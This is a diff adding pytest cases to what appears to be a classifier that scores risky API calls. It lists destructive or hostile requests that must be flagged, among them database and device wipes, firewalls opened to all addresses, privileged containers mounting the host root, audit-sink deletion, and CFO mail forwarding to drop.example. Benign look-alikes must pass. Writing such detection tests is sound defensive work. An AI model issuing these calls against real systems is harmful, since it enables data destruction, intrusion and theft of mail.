@@ -49,6 +49,173 @@ def test_ordinary_calls_pass(value: JsonValue) -> None:
     assert assess(EmbeddedModel.COMMANDS, value).risk_score < _THRESHOLD
 
 
+@pytest.mark.parametrize(
+    "value",
+    [
+        {"method": "POST", "path": "/v1/projects/p/deployments", "operation": "destroy", "force": True},
+        {"method": "POST", "path": "/api/stacks/northwind/shop/prod/deployments", "operation": "destroy"},
+        {
+            "method": "POST",
+            "path": "/v1/firewalls/7/actions/set_rules",
+            "rules": [{"direction": "in", "protocol": "tcp", "port": "any", "source_ips": ["0.0.0.0/0", "::/0"]}],
+        },
+        {
+            "method": "POST",
+            "path": "/v2.0/security-group-rules",
+            "security_group_rule": {
+                "direction": "ingress",
+                "protocol": "tcp",
+                "port_range_min": "22",
+                "remote_ip_prefix": "0.0.0.0/0",
+            },
+        },
+        {
+            "method": "PATCH",
+            "path": "/compute/v1/projects/x/global/firewalls/allow-db",
+            "sourceRanges": ["0.0.0.0/0"],
+            "allowed": [{"IPProtocol": "tcp", "ports": ["5432"]}],
+        },
+        {
+            "method": "POST",
+            "path": "/mcp",
+            "name": "delete-many",
+            "arguments": {"database": "shop", "collection": "orders", "filter": {}},
+        },
+        {"method": "DELETE", "path": "/rest/v1/patients", "query": {"id": ["gt.0"]}},
+        {"method": "POST", "path": "/vectors/delete", "deleteAll": True, "namespace": "support"},
+        {"method": "POST", "path": "/solr/cases/update", "delete": {"query": "*:*"}},
+        {"method": "POST", "path": "/api/v1/admin/tsdb/delete_series", "query": {"match[]": ['{__name__=~".+"}']}},
+        {"method": "POST", "path": "/JSSResource/computercommands/command/EraseDevice", "x": "y"},
+        {
+            "method": "POST",
+            "path": "/admin/directory/v1/customer/my_customer/devices/mobile/a/action",
+            "action": "admin_remote_wipe",
+        },
+        {
+            "method": "POST",
+            "path": "/api/v4/projects/77/deploy_keys",
+            "title": "ci",
+            "key": "ssh-rsa AAAAB3Nza",
+            "can_push": True,
+        },
+        {"method": "PUT", "path": "/repos/a/b/collaborators/kestrel-77", "permission": "admin"},
+        {"method": "PUT", "path": "/api/v4/projects/77", "visibility": "public"},
+        {
+            "method": "PUT",
+            "path": "/containers/create",
+            "Cmd": ["sh"],
+            "HostConfig": {"Binds": ["/:/host"], "Privileged": True},
+        },
+        {
+            "method": "POST",
+            "path": "/x",
+            "manifest": "kind: Pod\nspec:\n  containers:\n  - securityContext:\n      privileged: true\n"
+            "  volumes:\n  - name: r\n    hostPath:\n      path: /\n",
+        },
+        {"method": "DELETE", "path": "/v2/projects/p/sinks/audit-to-bq"},
+        {"method": "DELETE", "path": "/subscriptions/a/resourceGroups/rg/providers/Microsoft.Authorization/locks/keep"},
+        {
+            "Cmdlet": "Set-Mailbox",
+            "CmdletName": "Set-Mailbox",
+            "Parameters": {"Identity": "cfo", "ForwardingSmtpAddress": "smtp:x@drop.example"},
+        },
+        {"method": "POST", "path": "/esim/transfer", "msisdn": "447700900123", "eid": "8904", "skip_pin_check": True},
+        {
+            "script": 'require ["fileinto","copy"]; if header :contains "subject" "faktura" '
+            '{ redirect :copy "a@b.example"; fileinto "Trash"; }',
+        },
+    ],
+)
+def test_the_same_is_found_at_other_vendors(value: JsonValue) -> None:
+    assert assess(EmbeddedModel.COMMANDS, value).risk_score >= _THRESHOLD
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        {
+            "method": "POST",
+            "path": "/api/v2/runs",
+            "data": {"attributes": {"is-destroy": False, "auto-apply": True, "message": "Deploy"}},
+        },
+        {
+            "method": "POST",
+            "path": "/api/v2/runs",
+            "data": {"attributes": {"is-destroy": True, "auto-apply": True, "message": "tear down preview pr-214"}},
+        },
+        {
+            "method": "POST",
+            "path": "/compute/v1/projects/x/global/firewalls",
+            "direction": "INGRESS",
+            "sourceRanges": ["0.0.0.0/0"],
+            "allowed": [{"IPProtocol": "tcp", "ports": ["443", "80"]}],
+        },
+        {
+            "method": "POST",
+            "path": "/v2/firewalls",
+            "inbound_rules": [{"protocol": "tcp", "ports": "443", "sources": {"addresses": ["0.0.0.0/0"]}}],
+            "outbound_rules": [{"protocol": "tcp", "ports": "all", "destinations": {"addresses": ["0.0.0.0/0"]}}],
+        },
+        {
+            "method": "PUT",
+            "path": "/x/securityRules/a",
+            "properties": {
+                "access": "Deny",
+                "direction": "Inbound",
+                "sourceAddressPrefix": "*",
+                "destinationPortRange": "3389",
+            },
+        },
+        {
+            "method": "POST",
+            "path": "/app/data-a/endpoint/data/v1/action/deleteMany",
+            "database": "shop",
+            "collection": "carts",
+            "filter": {"expiresAt": {"$lt": "2026-01-01"}},
+        },
+        {
+            "method": "POST",
+            "path": "/app/data-a/endpoint/data/v1/action/deleteMany",
+            "database": "shop_test",
+            "collection": "carts",
+            "filter": {},
+        },
+        {"method": "DELETE", "path": "/rest/v1/carts", "query": {"id": ["eq.77"]}},
+        {"method": "POST", "path": "/vectors/delete", "ids": ["a", "b"], "deleteAll": False},
+        {"method": "POST", "path": "/solr/cases/update", "delete": {"query": "id:77"}},
+        {"method": "GET", "path": "/solr/cases/select", "query": {"q": ["*:*"]}},
+        {"method": "POST", "path": "/repos/a/b/keys", "key": "ssh-ed25519 AAAA", "read_only": True},
+        {"method": "PUT", "path": "/repos/a/b/collaborators/dana", "permission": "push"},
+        {"method": "PATCH", "path": "/repos/a/b", "private": True, "has_wiki": False},
+        {"method": "PATCH", "path": "/repos/a/b", "description": "x", "has_wiki": False},
+        {
+            "method": "POST",
+            "path": "/apis/apps/v1/daemonsets",
+            "kind": "DaemonSet",
+            "spec": {
+                "hostPID": True,
+                "containers": [{"image": "prom/node-exporter:v1.8.0", "volumeMounts": [{"readOnly": True}]}],
+                "volumes": [{"hostPath": {"path": "/"}}],
+            },
+        },
+        {
+            "method": "POST",
+            "path": "/apis/apps/v1/deployments",
+            "kind": "Deployment",
+            "spec": {
+                "containers": [{"securityContext": {"privileged": False}}],
+                "volumes": [{"hostPath": {"path": "/var/log"}}],
+            },
+        },
+        {"method": "PUT", "path": "/gmail/v1/users/me/settings/autoForwarding", "enabled": False},
+        {"method": "GET", "path": "/esim/profiles", "iccid": "8944", "notify": False},
+        {"script": 'if header :contains "subject" "x" { fileinto "Lists"; }'},
+    ],
+)
+def test_ordinary_calls_beside_them_pass(value: JsonValue) -> None:
+    assert assess(EmbeddedModel.COMMANDS, value).risk_score < _THRESHOLD
+
+
 def test_texts_of_a_call_are_not_read_as_one_program() -> None:
     parts = ["GmailApp.search('invoice')[0].forward('dana@northwind.example')", "old.moveToTrash()"]
 
